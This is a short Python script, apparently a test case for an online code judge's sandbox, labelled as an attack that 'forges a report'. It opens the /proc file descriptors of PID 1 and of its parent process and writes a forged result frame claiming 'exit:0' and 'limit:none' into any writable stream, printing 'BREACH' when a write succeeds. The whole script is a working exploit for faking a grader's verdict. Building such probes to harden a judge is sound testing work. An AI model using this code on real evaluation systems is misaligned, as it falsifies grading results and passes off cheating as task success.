# attack: reaches the runner's stream through /proc, and forges a report on it
# expect: AC
# exploit: judges whose runner is reached through /proc
import os

frame = (20).to_bytes(4, "little") + bytes([67]) + b"exit:0\nlimit:none\n\n\n"
for pid in ["1", str(os.getppid())]:
    for fd in range(16):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as stream:
                stream.write(frame)
                print("BREACH wrote to", stream.name)
        except OSError:
            pass
print("held")
